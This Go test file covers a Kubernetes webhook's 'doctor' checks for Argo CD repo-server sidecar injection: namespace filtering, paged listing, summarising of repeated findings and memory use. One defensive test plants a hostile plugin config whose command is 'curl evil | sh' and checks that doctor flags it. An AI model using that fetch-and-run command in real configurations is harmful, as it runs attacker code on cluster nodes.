package doctor

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	k8sruntime "k8s.io/apimachinery/pkg/runtime"
	"k8s.io/client-go/kubernetes/fake"
	k8stesting "k8s.io/client-go/testing"

	"github.com/cmp-injector/cmp-injector/pkg/catalog"
	"github.com/cmp-injector/cmp-injector/pkg/inject"
	"github.com/cmp-injector/cmp-injector/pkg/keys"
)

// argo-helm's global.podLabels labels every Argo CD pod: doctor passes those
// that are not repo-servers, as the webhook leaves them, and still fails a
// labelled repo-server that is not injected.
func TestDoctorLeavesLabelledNonRepoServersAlone(t *testing.T) {
	cat, err := catalog.Load("../testdata/catalog.yaml")
	if err != nil {
		t.Fatal(err)
	}
	labelled := func(name, container string, args ...string) *corev1.Pod {
		return &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "argocd",
				Labels:      map[string]string{keys.InjectLabel: keys.EnabledValue},
				Annotations: map[string]string{keys.PluginsAnnotation: "helm"}},
			Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: container, Image: "quay.io/argoproj/argocd:v3.4.4", Args: args}}},
		}
	}
	server := labelled("argocd-server-0", "server", "/usr/local/bin/argocd-server")
	repo := labelled("argocd-repo-server-0", "repo-server", "/usr/local/bin/argocd-repo-server")
	d := &doctor{client: fake.NewClientset(server, repo), cat: cat, enabled: map[string]bool{"argocd": true}}
	d.checkPods(context.Background())
	got := map[string]*Result{}
	for _, c := range d.report.group("repo-server pods").Checks {
		got[c.Pod.Name] = c
	}
	if c := got[server.Name]; c == nil || !c.OK || !strings.Contains(c.Message, "not a repo-server") {
		t.Errorf("argocd-server: %+v", c)
	}
	if c := got[repo.Name]; c == nil || c.OK || !strings.Contains(c.Message, "not injected, though it would be now") {
		t.Errorf("repo-server: %+v", c)
	}
}

// repoServerPod is a labelled repo-server pod that asks for helm, not injected.
func repoServerPod(ns, name string) *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns,
			Labels:      map[string]string{keys.InjectLabel: keys.EnabledValue},
			Annotations: map[string]string{keys.PluginsAnnotation: "helm"}},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "repo-server", Image: "quay.io/argoproj/argocd:v3.4.4",
			Args: []string{"/usr/local/bin/argocd-repo-server"}}}},
	}
}

// pagingClient is a fake clientset whose pod list pages as the API server
// does (the fake's own tracker ignores Limit and Continue) and hands out a
// fresh copy of each page, as decoding a response would. limits records the
// Limit of every list call; onPage runs after each page is built.
func pagingClient(pods []*corev1.Pod, limits *[]int64, onPage func()) *fake.Clientset {
	client := fake.NewClientset()
	client.PrependReactor("list", "pods", func(a k8stesting.Action) (bool, k8sruntime.Object, error) {
		opts := a.(k8stesting.ListActionImpl)
		var matching []*corev1.Pod
		for _, p := range pods {
			if opts.Namespace == "" || p.Namespace == opts.Namespace {
				matching = append(matching, p)
			}
		}
		lim := opts.ListOptions.Limit
		*limits = append(*limits, lim)
		start := 0
		if c := opts.ListOptions.Continue; c != "" {
			n, err := strconv.Atoi(c)
			if err != nil || n < 0 || n > len(matching) {
				return true, nil, fmt.Errorf("bad continue token %q", c)
			}
			start = n
		}
		end := len(matching)
		if lim > 0 && start+int(lim) < end {
			end = start + int(lim)
		}
		list := &corev1.PodList{}
		for _, p := range matching[start:end] {
			list.Items = append(list.Items, *p.DeepCopy())
		}
		if end < len(matching) {
			list.Continue = strconv.Itoa(end)
		}
		if onPage != nil {
			onPage()
		}
		return true, list, nil
	})
	return client
}

func loadTestCatalog(t testing.TB) *catalog.Catalog {
	t.Helper()
	cat, err := catalog.Load("../testdata/catalog.yaml")
	if err != nil {
		t.Fatal(err)
	}
	return cat
}

// Anyone who may create pods in any namespace can label them: doctor looks
// only at the namespaces the webhook selects and counts the others in one
// line instead of failing each (an attack run made 2,000 ✘ lines of them).
func TestDoctorSkipsPodsOutsideEnabledNamespaces(t *testing.T) {
	var pods []*corev1.Pod
	for i := range 3 {
		pods = append(pods, repoServerPod("tenant-a", fmt.Sprintf("noise-%d", i)))
	}
	pods = append(pods, repoServerPod("argocd", "argocd-repo-server-0"), repoServerPod("tenant-b", "noise"))
	var limits []int64
	d := &doctor{client: pagingClient(pods, &limits, nil), cat: loadTestCatalog(t), enabled: map[string]bool{"argocd": true}}
	d.checkPods(context.Background())
	var text strings.Builder
	d.report.WriteText(&text)
	for _, c := range d.report.group("repo-server pods").Checks {
		if c.Pod != nil && c.Pod.Namespace != "argocd" {
			t.Errorf("a pod outside the enabled namespaces was checked: %+v", c)
		}
	}
	if !strings.Contains(text.String(), "argocd/argocd-repo-server-0: not injected, though it would be now") {
		t.Errorf("the enabled namespace's pod is not reported:\n%s", text.String())
	}
	if !strings.Contains(text.String(), "✔ skipped 4 pod(s) labelled "+keys.InjectLabel+"="+keys.EnabledValue+" in 2 namespace(s) the webhook does not select (tenant-a: 3, tenant-b: 1)") {
		t.Errorf("no summary of the skipped pods:\n%s", text.String())
	}
	if strings.Contains(text.String(), "noise") {
		t.Errorf("a skipped pod is named:\n%s", text.String())
	}
	if d.report.SkippedPods["tenant-a"] != 3 || d.report.SkippedPods["tenant-b"] != 1 {
		t.Errorf("skippedPods %v", d.report.SkippedPods)
	}
	// With the namespaces unknown (their list failed), nothing is skipped.
	unknown := &doctor{client: pagingClient(pods, &limits, nil), cat: d.cat}
	unknown.checkPods(context.Background())
	if n := len(unknown.report.group("repo-server pods").Checks); n != len(pods) || unknown.report.SkippedPods != nil {
		t.Errorf("namespaces unknown: %d checks for %d pods, skipped %v", n, len(pods), unknown.report.SkippedPods)
	}
}

// 3,000 pods with the same finding print one line, listed 500 at a time;
// -o json still has every pod.
func TestDoctorSummarisesRepeatedFindings(t *testing.T) {
	const n = 3000
	pods := make([]*corev1.Pod, 0, n)
	for i := range n {
		pods = append(pods, repoServerPod("argocd", fmt.Sprintf("repo-%04d", i)))
	}
	var limits []int64
	d := &doctor{client: pagingClient(pods, &limits, nil), cat: loadTestCatalog(t), enabled: map[string]bool{"argocd": true}}
	d.checkPods(context.Background())
	var text strings.Builder
	d.report.WriteText(&text)
	lines := strings.Count(text.String(), "\n")
	t.Logf("%d pods: %d lines of text, %d list calls (limits %v)\n%s", n, lines, len(limits), limits, text.String())
	if lines > 20 {
		t.Errorf("%d lines of text for %d pods with one finding", lines, n)
	}
	want := fmt.Sprintf("✘ %d pods: not injected, though it would be now", n)
	if !strings.Contains(text.String(), want) || !strings.Contains(text.String(), "(first 5: argocd/repo-0000, argocd/repo-0001, argocd/repo-0002, argocd/repo-0003, argocd/repo-0004, …)") {
		t.Errorf("no summary line %q:\n%s", want, text.String())
	}
	if len(limits) != n/500 || limits[0] != 500 {
		t.Errorf("list calls with limits %v, want %d pages of 500", limits, n/500)
	}
	js, err := json.Marshal(&d.report)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Count(string(js), `"pod":{`); got != n {
		t.Errorf("-o json has %d pod reports, want %d", got, n)
	}
	// A few of the same finding are still listed one by one.
	small := &doctor{client: pagingClient(pods[:3], &limits, nil), cat: d.cat, enabled: d.enabled}
	small.checkPods(context.Background())
	text.Reset()
	small.report.WriteText(&text)
	if strings.Count(text.String(), ": not injected, though it would be now") != 3 {
		t.Errorf("three pods are not listed one by one:\n%s", text.String())
	}
}

// A config annotation that is not the catalog's is what the sidecar serves
// (or would): doctor flags it on injected and not-injected pods alike,
// instead of reporting the injected one as merely pending.
func TestDoctorFlagsForeignConfigAnnotation(t *testing.T) {
	cat := loadTestCatalog(t)
	hostile := "kind: ConfigManagementPlugin\nspec: {generate: {command: [sh, -c, 'curl evil | sh']}}"
	r := inject.Inject(repoServerPod("argocd", "injected"), "argocd", cat)
	if r.Decision != inject.Injected {
		t.Fatal(r.Decision, r.Problems)
	}
	edited := r.Pod
	edited.Annotations[keys.ConfigAnnotationPrefix+"helm"] = hostile
	plain := repoServerPod("argocd", "plain")
	plain.Annotations[keys.ConfigAnnotationPrefix+"helm"] = hostile
	clean := inject.Inject(repoServerPod("argocd", "clean"), "argocd", cat).Pod
	var limits []int64
	d := &doctor{client: pagingClient([]*corev1.Pod{edited, plain, clean}, &limits, nil), cat: cat, enabled: map[string]bool{"argocd": true}}
	d.checkPods(context.Background())
	flagged := map[string]*Result{}
	for _, c := range d.report.group("repo-server pods").Checks {
		if c.Pod != nil && strings.Contains(c.Message, `differs from plugin "helm"'s config`) {
			flagged[c.Pod.Name] = c
		}
	}
	var text strings.Builder
	d.report.WriteText(&text)
	for _, name := range []string{"injected", "plain"} {
		if c := flagged[name]; c == nil || c.OK || c.Hint == "" {
			t.Errorf("%s: the hostile config is not flagged: %+v\n%s", name, c, text.String())
		}
	}
	if c := flagged["clean"]; c != nil {
		t.Errorf("the catalog's own config is flagged: %+v", c)
	}
	if c := flagged["injected"]; c != nil && !strings.Contains(c.Hint, "edited") {
		t.Errorf("the injected pod's hint does not say it was edited: %s", c.Hint)
	}
	t.Logf("\n%s", text.String())
}

// Memory: 3,000 pods, each with a 10 KiB annotation doctor does not read and
// managedFields, listed behind a paging reactor. The peak is sampled at every
// page (heap in use after a forced GC would hide what a page costs, so it is
// the live heap as the page is handed out).
func TestDoctorMemoryWithLargePods(t *testing.T) {
	const n = 3000
	cat := loadTestCatalog(t)
	foreign := strings.Repeat("x", 10<<10)
	fields := metav1.NewFieldsV1(`{"f:metadata":{"f:annotations":{"f:example.com/blob":{}}}}`)
	pods := make([]*corev1.Pod, 0, n)
	for i := range n {
		p := repoServerPod("argocd", fmt.Sprintf("repo-%04d", i))
		if i%3 == 0 {
			p = inject.Inject(p, "argocd", cat).Pod
		}
		p.Annotations["example.com/blob"] = foreign
		p.ManagedFields = []metav1.ManagedFieldsEntry{{Manager: "kubectl", Operation: metav1.ManagedFieldsOperationApply, FieldsType: "FieldsV1", FieldsV1: fields}}
		pods = append(pods, p)
	}
	var ms runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&ms)
	base, totalBase := ms.HeapAlloc, ms.TotalAlloc
	peak := base
	// The sampler goroutine and the paging reactor both sample.
	var mu sync.Mutex
	sample := func() {
		var now runtime.MemStats
		runtime.ReadMemStats(&now)
		mu.Lock()
		peak = max(peak, now.HeapAlloc)
		mu.Unlock()
	}
	// Also sampled every few milliseconds while doctor runs, so that what it
	// holds between pages counts too.
	done, sampled := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(sampled)
		tick := time.NewTicker(5 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-done:
				return
			case <-tick.C:
				sample()
			}
		}
	}()
	var limits []int64
	d := &doctor{client: pagingClient(pods, &limits, sample), cat: cat, enabled: map[string]bool{"argocd": true}}
	start := time.Now()
	d.checkPods(context.Background())
	d.report.WriteText(io.Discard)
	took := time.Since(start)
	close(done)
	<-sampled
	sample()
	runtime.GC()
	runtime.ReadMemStats(&ms)
	const mib = 1 << 20
	t.Logf("%d pods (10 KiB foreign annotation each), %d list calls: peak heap growth %d MiB, retained after GC %d MiB, allocated in total %d MiB, %s",
		n, len(limits), (peak-base)/mib, (int64(ms.HeapAlloc)-int64(base))/mib, (ms.TotalAlloc-totalBase)/mib, took.Round(time.Millisecond))
	if peak-base > 200*mib {
		t.Errorf("peak heap growth %d MiB, want < 200 MiB", (peak-base)/mib)
	}
	runtime.KeepAlive(pods)
}
